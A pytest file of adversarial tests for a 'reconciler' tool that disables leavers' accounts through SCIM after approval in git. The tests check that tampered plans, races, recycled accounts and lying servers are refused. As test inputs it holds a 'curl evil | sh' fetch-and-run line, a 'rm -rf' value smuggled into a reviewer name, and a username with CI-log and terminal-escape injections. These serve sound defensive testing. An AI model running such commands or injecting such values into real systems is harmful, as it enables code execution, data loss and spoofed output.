"""Adversarial tests: the installed `reconciler` command, real SCIM servers behind a
fault-injecting proxy, real git. Each test tries to get an account removed that no one
approved, or `done` recorded for an action that never happened."""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path

import httpx
import yaml

from reconciler import demo, snapshot
from reconciler.testing.access_repo import Company, company
from reconciler.testing.faults import Faults

LEAVERS = (*demo.LEAVERS_DEPROVISIONED, demo.LEAVER_DELETED)
REVIEWER = demo.REVIEWER


def propose(c: Company) -> dict:
    """First check, the demo's leavers leave, second check: the plan on its branch."""
    first = c.run("check")
    assert first.returncode == 0, first.stdout + first.stderr
    c.leave()
    second = c.run("check", "--detailed-exitcode")
    assert second.returncode == 4, second.stdout + second.stderr
    return c.plan_on_branch()


def approve(c: Company) -> None:
    result = c.run("approve", "--app", "wiki", "--as", REVIEWER)
    assert result.returncode == 0, result.stdout + result.stderr


def edit_branch(c: Company, files: dict[str, str], message: str = "reviewer edit") -> None:
    """Commit `files` on the plan branch as a person would."""
    c.git.run("checkout", "-q", "reconciler/wiki")
    for name, text in files.items():
        (c.repo / name).write_text(text, encoding="utf-8")
    c.git.run("add", *files)
    c.git.run(
        "commit",
        "-qm",
        message,
        env={"GIT_AUTHOR_NAME": "Mallory", "GIT_AUTHOR_EMAIL": "mallory@example.com"},
    )
    c.git.run("checkout", "-q", "main")


def actions(result: subprocess.CompletedProcess[str]) -> list[dict]:
    """The actions of the one app in `apply --format json` output."""
    return json.loads(result.stdout)["apps"][0]["actions"]


def assert_apply_refused(c: Company, *words: str) -> None:
    """`apply --confirm` refuses, saying `words`, and every account stays active."""
    result = c.run("apply", "--confirm")
    assert result.returncode == 1
    for word in words:
        assert word in result.stdout
    assert all(active(c, u) for u in (*LEAVERS, "alice.liddell"))


def merge_by_hand(c: Company) -> None:
    """Merge the plan branch without `reconciler approve`, with a trailer typed by hand."""
    message = f"merge\n\nApproved-by: {REVIEWER}"
    c.git.run("merge", "-q", "--no-ff", "-m", message, "reconciler/wiki")


def active(c: Company, username: str) -> bool:
    return bool(c.app_user(username)["active"])


def scim_put(c: Company, user_id: str, **changes: object) -> None:
    """Replace a user's attributes in the app, as an admin would in its UI."""
    headers = {"Authorization": f"Bearer {c.app.token}"}
    with httpx.Client(base_url=c.app.url, headers=headers) as client:
        user = client.get(f"/Users/{user_id}").json()
        user.update(changes)
        user.pop("meta", None)
        response = client.put(f"/Users/{user_id}", json=user)
        assert response.status_code == 200, response.text


# --- fault 1: a blocked plan edited to look open -----------------------------------------


def test_a_blocked_plan_cannot_be_unblocked_by_editing_it(tmp_path: Path) -> None:
    strict = demo.POLICY.replace("max_per_run: 10", "max_per_run: 1")
    with company(tmp_path, policy=strict) as c:
        plan = propose(c)
        assert plan["status"] == "blocked"
        plan["status"] = "open"
        plan["blocked_reasons"] = []
        edit_branch(c, {"plans/wiki.yaml": yaml.safe_dump(plan, sort_keys=False)})
        approve(c)
        assert_apply_refused(c, "is blocked", "allow_blocked_plans")


# --- fault 2: a re-approved identical plan ------------------------------------------------


def test_a_reapproved_identical_plan_acts_again_with_a_journal_of_its_own(tmp_path: Path) -> None:
    faults = Faults()
    with company(tmp_path, app_middleware=faults) as c:
        first_plan = propose(c)
        approve(c)
        assert c.run("apply", "--confirm").returncode == 0
        assert not any(active(c, u) for u in LEAVERS)
        # Someone re-enables the accounts in the app; the same plan comes back.
        for username in LEAVERS:
            c.app.set_active(c.app_ids.users[username], True)
        assert c.run("check", "--detailed-exitcode").returncode == 4
        assert c.plan_on_branch()["plan"] == first_plan["plan"]
        approve(c)
        before = sum(faults.performed.values())
        result = c.run("apply", "--confirm", "--format", "json")
        assert result.returncode == 0, result.stdout + result.stderr
        outcomes = [a["outcome"] for a in actions(result)]
        assert outcomes == ["done"] * 3
        assert sum(faults.performed.values()) - before == 3  # requests really sent
        assert not any(active(c, u) for u in LEAVERS)
        # Each approval has a journal of its own.
        journals = sorted((c.repo / "history/wiki").glob("*.yaml"))
        commits = {yaml.safe_load(j.read_text())["approval_commit"] for j in journals}
        assert len(journals) == len(commits) == 2


# --- fault 3: a plan branch that rewrites the state it was computed from --------------------


def swap_colleague_into_state(c: Company, plan: dict) -> dict:
    """On the branch: rewrite a leaver's snapshot line with a colleague's account and
    point the plan at that commit, with an action for the colleague."""
    victim = c.app_user("alice.liddell")
    accounts = (c.repo / "state/apps/wiki/accounts.yaml").read_text()
    leaver = c.app_user(demo.LEAVERS_DEPROVISIONED[0])
    accounts = accounts.replace(f'"id":"{leaver["id"]}"', f'"id":"{victim["id"]}"', 1)
    edit_branch(c, {"state/apps/wiki/accounts.yaml": accounts}, "fix snapshot")
    plan["base_commit"] = c.git.head("reconciler/wiki")
    action = json.loads(json.dumps(plan["actions"][0]))
    action["account"] = {"id": victim["id"], "username": "alice.liddell"}
    plan["actions"].append(action)
    edit_branch(c, {"plans/wiki.yaml": yaml.safe_dump(plan, sort_keys=False)})
    return victim


def test_a_plan_branch_that_changes_state_is_not_approved(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        plan = propose(c)
        swap_colleague_into_state(c, plan)
        result = c.run("approve", "--app", "wiki", "--as", REVIEWER)
        assert result.returncode == 1
        assert "state/apps/wiki/accounts.yaml" in result.stderr
        assert "may change only" in result.stderr
        assert c.git.show("main", "plans/wiki.yaml") is None


def test_a_plan_merged_with_state_changes_by_hand_is_refused(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        plan = propose(c)
        swap_colleague_into_state(c, plan)
        merge_by_hand(c)
        assert_apply_refused(c, "may change only")


def test_a_base_commit_from_the_branch_is_refused(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        plan = propose(c)
        # An empty commit on the branch, named as the plan's base: its state equals
        # main's, but it is not a commit check made on main.
        c.git.run("checkout", "-q", "reconciler/wiki")
        c.git.run("commit", "-q", "--allow-empty", "-m", "base")
        plan["base_commit"] = c.git.head()
        c.git.run("checkout", "-q", "main")
        edit_branch(c, {"plans/wiki.yaml": yaml.safe_dump(plan, sort_keys=False)})
        approve(c)
        assert_apply_refused(c, "base_commit")


# --- fault 4: two applies at once ------------------------------------------------------


def test_two_applies_at_once_act_once_per_account(tmp_path: Path) -> None:
    faults = Faults()
    with company(tmp_path, app_middleware=faults) as c:
        propose(c)
        approve(c)
        faults.hold_writes = True
        first = c.start("apply", "--confirm")
        assert faults.holding.wait(30), "the first apply never reached the app"
        second = c.run("apply", "--confirm", env={"RECONCILER_LOCK_WAIT": "1"})
        assert second.returncode == 1
        assert "in use by reconciler apply --confirm" in second.stderr
        faults.hold_writes = False
        faults.release.set()
        output, _ = first.communicate(timeout=120)
        assert first.returncode == 0, output
        assert sorted(faults.performed.values()) == [1, 1, 1]
        # Run again after the first finished: nothing left to do, nothing sent.
        third = c.run("apply", "--confirm")
        assert "no merged plans" in third.stdout
        assert sorted(faults.performed.values()) == [1, 1, 1]


# --- faults 5 and 6: the account or the person changed between approval and apply -------


def test_a_recycled_account_is_not_removed(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        propose(c)
        approve(c)
        # The leaver's account is renamed and handed to a colleague, still active.
        recycled = c.app_ids.users[demo.LEAVERS_DEPROVISIONED[0]]
        scim_put(
            c,
            recycled,
            userName="zed.newhire",
            emails=[{"value": "zed.newhire@example.com", "primary": True}],
        )
        result = c.run("apply", "--confirm", "--format", "json")
        outcomes = {a["account"]["id"]: a for a in actions(result)}
        assert outcomes[recycled]["outcome"] == "skipped"
        assert "changed since the plan" in outcomes[recycled]["detail"]
        assert active(c, "zed.newhire")


def test_a_rehired_person_is_not_removed(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        propose(c)
        approve(c)
        # The person deleted from the IdP is hired back: a new IdP id, the same email.
        rehired = demo.LEAVER_DELETED
        person = next(p for p in demo.people() if p.username == rehired)
        c.idp.seed([demo.scim_user(person.username, person.email, person.given, person.family)])
        result = c.run("apply", "--confirm", "--format", "json")
        outcomes = {a["account"]["username"]: a for a in actions(result)}
        assert outcomes[rehired]["outcome"] == "skipped"
        assert "no longer proposed" in outcomes[rehired]["detail"]
        assert active(c, rehired)
        assert not active(c, demo.LEAVERS_DEPROVISIONED[0])


# --- a server that lies: done only when the account reads back changed --------------------


def test_done_is_recorded_only_when_the_account_reads_back_disabled(tmp_path: Path) -> None:
    faults = Faults()
    with company(tmp_path, app_middleware=faults) as c:
        propose(c)
        approve(c)
        faults.swallow_writes = True
        result = c.run("apply", "--confirm", "--format", "json")
        assert result.returncode == 1
        outcomes = [a["outcome"] for a in actions(result)]
        assert outcomes == ["failed"] * 3
        assert "read back" in result.stdout
        assert (c.repo / "plans/wiki.yaml").exists()  # the plan stays until it is done
        faults.swallow_writes = False
        retried = c.run("apply", "--confirm")
        assert retried.returncode == 0, retried.stdout
        assert not any(active(c, u) for u in LEAVERS)


# --- fault 18: one action fails, the others go on --------------------------------------


def test_a_failed_action_is_retried_alone(tmp_path: Path) -> None:
    faults = Faults()
    with company(tmp_path, app_middleware=faults) as c:
        propose(c)
        approve(c)
        broken = c.app_ids.users[demo.LEAVER_DELETED]
        faults.failing_users.add(broken)
        result = c.run("apply", "--confirm", "--format", "json")
        assert result.returncode == 1
        outcomes = {a["account"]["id"]: a["outcome"] for a in actions(result)}
        assert outcomes[broken] == "failed"
        assert sorted(outcomes.values()) == ["done", "done", "failed"]
        assert (c.repo / "plans/wiki.yaml").exists()
        faults.failing_users.clear()
        performed = dict(faults.performed)
        again = c.run("apply", "--confirm")
        assert again.returncode == 0, again.stdout
        sent = {k: v - performed.get(k, 0) for k, v in faults.performed.items()}
        assert {k: v for k, v in sent.items() if v} == {broken: 1}
        assert not (c.repo / "plans/wiki.yaml").exists()


# --- faults 8 and 9: what a system says cannot reach a terminal or a commit raw ------------


def test_hostile_usernames_are_inert_in_apply_output_and_commits(tmp_path: Path) -> None:
    hostile = "eve\n::error::pwned\x1b[2J\u202e\u2028x"
    users = [demo.scim_user(f"p{i}", f"p{i}@example.com", "P", str(i)) for i in range(20)]
    idp_users = [*users, demo.scim_user("eve", "eve@example.com", "Eve", "X")]
    app_users = [*users, demo.scim_user(hostile, "eve@example.com", "Eve", "X")]
    with company(tmp_path, idp_users=idp_users, app_users=app_users) as c:
        assert c.run("check").returncode == 0
        c.idp.set_active(c.idp_ids.users["eve"], False)
        assert c.run("check").returncode == 0
        approve(c)
        for fmt in ("text", "markdown"):
            dry = c.run("apply", "--format", fmt, env={"GITHUB_ACTIONS": "true"})
            assert dry.returncode == 0, dry.stdout
            assert "eve" in dry.stdout
            for raw in ("\n::error::", "\x1b", "\u202e", "\u2028"):
                assert raw not in dry.stdout
        result = c.run("apply", "--confirm")
        assert result.returncode == 0, result.stdout
        message = c.git.commit_info("HEAD").message
        for raw in ("\n::error::", "\x1b", "\u202e", "\u2028"):
            assert raw not in result.stdout and raw not in message
        assert "\\n::error::pwned" in message


def test_a_token_echoed_by_a_server_is_never_kept(tmp_path: Path) -> None:
    faults = Faults(echo_authorization=True)
    with company(tmp_path, app_middleware=faults) as c:
        propose(c)
        approve(c)
        faults.failing_users.add(c.app_ids.users[demo.LEAVER_DELETED])
        result = c.run("apply", "--confirm")
        assert result.returncode == 1
        token = c.env["DEMO_APP_TOKEN"]
        kept = [result.stdout, result.stderr, c.git.run("log", "-p", "--all")]
        kept += [p.read_text() for p in (c.repo / "history").rglob("*.yaml")]
        for text in kept:
            for start in range(len(token) - 5):
                assert token[start : start + 6] not in text


# --- fault 12: a reviewed plan is checked against its schema and its policy digest -------


def test_a_plan_that_breaks_its_schema_is_refused(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        plan = propose(c)
        plan["actions"][0]["run_after"] = "curl evil | sh"
        edit_branch(c, {"plans/wiki.yaml": yaml.safe_dump(plan, sort_keys=False)})
        refused = c.run("approve", "--app", "wiki", "--as", REVIEWER)
        assert refused.returncode == 1
        assert "plans/wiki.yaml" in refused.stderr and "run_after" in refused.stderr
        merge_by_hand(c)
        assert_apply_refused(c, "plans/wiki.yaml", "run_after")


def test_a_plan_with_an_edited_policy_digest_is_refused(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        plan = propose(c)
        plan["policy_digest"] = "0" * 64
        edit_branch(c, {"plans/wiki.yaml": yaml.safe_dump(plan, sort_keys=False)})
        approve(c)
        assert_apply_refused(c, "policy_digest")


def test_a_plan_with_digests_of_an_earlier_release_is_refused(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        plan = propose(c)
        # What an earlier release recorded: the SHA-256 of the files' bytes at the base.
        base = plan["base_commit"]
        accounts = c.git.show(base, "state/apps/wiki/accounts.yaml")
        identities = c.git.show(base, "state/identities/corp.yaml")
        assert accounts is not None and identities is not None
        plan["snapshots"] = {
            "apps/wiki": snapshot.legacy_digest([accounts]),
            "identities/corp": snapshot.legacy_digest([identities]),
        }
        edit_branch(c, {"plans/wiki.yaml": yaml.safe_dump(plan, sort_keys=False)})
        approve(c)
        assert_apply_refused(c, "plans/wiki.yaml", "earlier release", "`reconciler check`")


# --- fault 16: who did it --------------------------------------------------------------


def test_commits_are_authored_by_the_person_and_committed_by_the_tool(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        propose(c)
        refused = c.run("approve", "--app", "wiki", "--as", "not a name; rm -rf")
        assert refused.returncode == 1
        assert "is not a name" in refused.stderr
        approve(c)
        approval = c.git.run("log", "-1", "--format=%an|%cn")
        assert approval.strip() == f"{REVIEWER}|reconciler"
        result = c.run("apply", "--confirm", env={"GITHUB_ACTOR": "octo-operator"})
        assert result.returncode == 0, result.stdout
        assert c.git.run("log", "-1", "--format=%an|%ae|%cn").strip() == (
            "octo-operator|octo-operator@users.noreply.github.com|reconciler"
        )
        (journal,) = (c.repo / "history/wiki").glob("*.yaml")
        runs = yaml.safe_load(journal.read_text())["runs"]
        assert runs[0]["by"].startswith("octo-operator <")


# --- faults 13 and 14: what check imports -----------------------------------------------


def test_an_app_pull_that_shrank_is_not_imported(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        plan = propose(c)
        branch = c.git.head("reconciler/wiki")
        head = c.git.head()
        keep = {c.app_ids.users[u] for u in ("alice.liddell", "carol.danvers")}
        for user in c.app.list_users():
            if user["id"] not in keep:
                c.app.delete_user(user["id"])
        result = c.run("check")
        assert result.returncode == 1
        assert "max_app_shrink" in result.stdout
        assert c.git.head() == head  # nothing imported
        assert c.git.head("reconciler/wiki") == branch  # the open plan is kept
        assert c.plan_on_branch()["plan"] == plan["plan"]


def test_check_refuses_uncommitted_configuration(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        assert c.run("check").returncode == 0
        policy = c.repo / "policies/default.yaml"
        policy.write_text(policy.read_text().replace("max_per_run: 10", "max_per_run: 99"))
        head = c.git.head()
        result = c.run("check")
        assert result.returncode == 1
        assert "policies/default.yaml" in result.stderr
        assert c.git.head() == head


# --- fault 17: mark-done by name, markdown everywhere ------------------------------------


def test_status_and_apply_speak_markdown(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        propose(c)
        status = c.run("status", "--format", "markdown")
        assert status.returncode == 0
        assert status.stdout.startswith("# reconciler status")
        assert "| app |" in status.stdout
        approve(c)
        dry = c.run("apply", "--format", "markdown")
        assert dry.stdout.startswith("# reconciler apply")
        assert "| outcome | account | detail |" in dry.stdout


def test_json_outputs_carry_a_schema_version(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        check = json.loads(c.run("check", "--format", "json").stdout)
        status = json.loads(c.run("status", "--format", "json").stdout)
        apply = json.loads(c.run("apply", "--format", "json").stdout)
        assert check["schema_version"] == status["schema_version"] == apply["schema_version"]
        assert "phases" not in check and "phases" in check["timings"]
        assert check["apps"][0]["error"] is None


def test_the_lock_says_who_holds_it(tmp_path: Path) -> None:
    faults = Faults()
    with company(tmp_path, app_middleware=faults) as c:
        propose(c)
        approve(c)
        faults.hold_writes = True
        holder = c.start("apply", "--confirm")
        assert faults.holding.wait(30)
        started = time.monotonic()
        check = c.run("check", env={"RECONCILER_LOCK_WAIT": "1"})
        assert check.returncode == 1
        assert time.monotonic() - started < 30
        assert "pid" in check.stderr and "only one check or apply" in check.stderr
        faults.release.set()
        holder.communicate(timeout=120)


# --- fault 7: a list that cannot be shown complete --------------------------------------


def test_an_idp_that_omits_its_total_and_loses_a_page_proposes_nothing(tmp_path: Path) -> None:
    faults = Faults()
    with company(tmp_path, idp_middleware=faults) as c:
        config = c.repo / "reconciler.yaml"
        config.write_text(
            config.read_text().replace(
                "token_env: DEMO_IDP_TOKEN", "token_env: DEMO_IDP_TOKEN\n    page_size: 10"
            )
        )
        c.git.commit_paths(["reconciler.yaml"], "small pages")
        assert c.run("check").returncode == 0
        faults.drop_total = True
        faults.lose_later_pages = True
        result = c.run("check", "--detailed-exitcode")
        assert result.returncode == 1, result.stdout
        assert "totalResults" in result.stdout
        assert c.git.head("reconciler/wiki") is None
        identities = yaml.safe_load((c.repo / "state/identities/corp.yaml").read_text())
        assert all(i["status"] == "active" for i in identities["identities"])


# --- fault 10: a corrupt snapshot line is named by file and line --------------------------


def test_a_corrupt_snapshot_line_is_named_by_file_and_line(tmp_path: Path) -> None:
    with company(tmp_path) as c:
        assert c.run("check").returncode == 0
        path = c.repo / "state/apps/wiki/accounts.yaml"
        lines = path.read_text().splitlines(keepends=True)
        lines[5] = lines[5].replace('"status":"active"', '"status":"gone"')
        path.write_text("".join(lines))
        c.git.commit_paths(["state"], "hand edit")
        c.leave()
        result = c.run("check")
        assert result.returncode == 1
        assert "state/apps/wiki/accounts.yaml:6" in result.stdout + result.stderr
        assert c.git.head("reconciler/wiki") is None


# --- fault 20: a user without a usable id -----------------------------------------------


def test_an_account_listed_without_an_id_fails_the_pull_by_name(tmp_path: Path) -> None:
    faults = Faults()
    with company(tmp_path, app_middleware=faults) as c:
        assert c.run("check").returncode == 0
        faults.null_ids.add("bob.builder")
        c.leave()
        result = c.run("check")
        assert result.returncode == 1
        assert "bob.builder" in result.stdout and "None" not in result.stdout
        assert c.git.head("reconciler/wiki") is None
        assert '"id":"None"' not in (c.repo / "state/apps/wiki/accounts.yaml").read_text()


# --- a policy deadline: status says which plans are late ---------------------------------


def test_status_names_a_plan_past_the_policy_deadline(tmp_path: Path, monkeypatch) -> None:
    from datetime import timedelta

    from reconciler.clock import utc_now
    from reconciler.commands import status

    with company(tmp_path, policy=demo.POLICY + "deadline: 24h\n") as c:
        propose(c)
        assert "LATE" not in c.cli("status").output
        monkeypatch.setattr(status, "utc_now", lambda: utc_now() + timedelta(hours=30))
        late = c.cli("status")
        assert "LATE: past the policy deadline of 24h by 6h" in late.output
        approve(c)
        data = json.loads(c.cli("status", "--format", "json").output)
        (waiting,) = data["merged_not_applied"]
        assert waiting["late"].startswith("past the policy deadline of 24h")
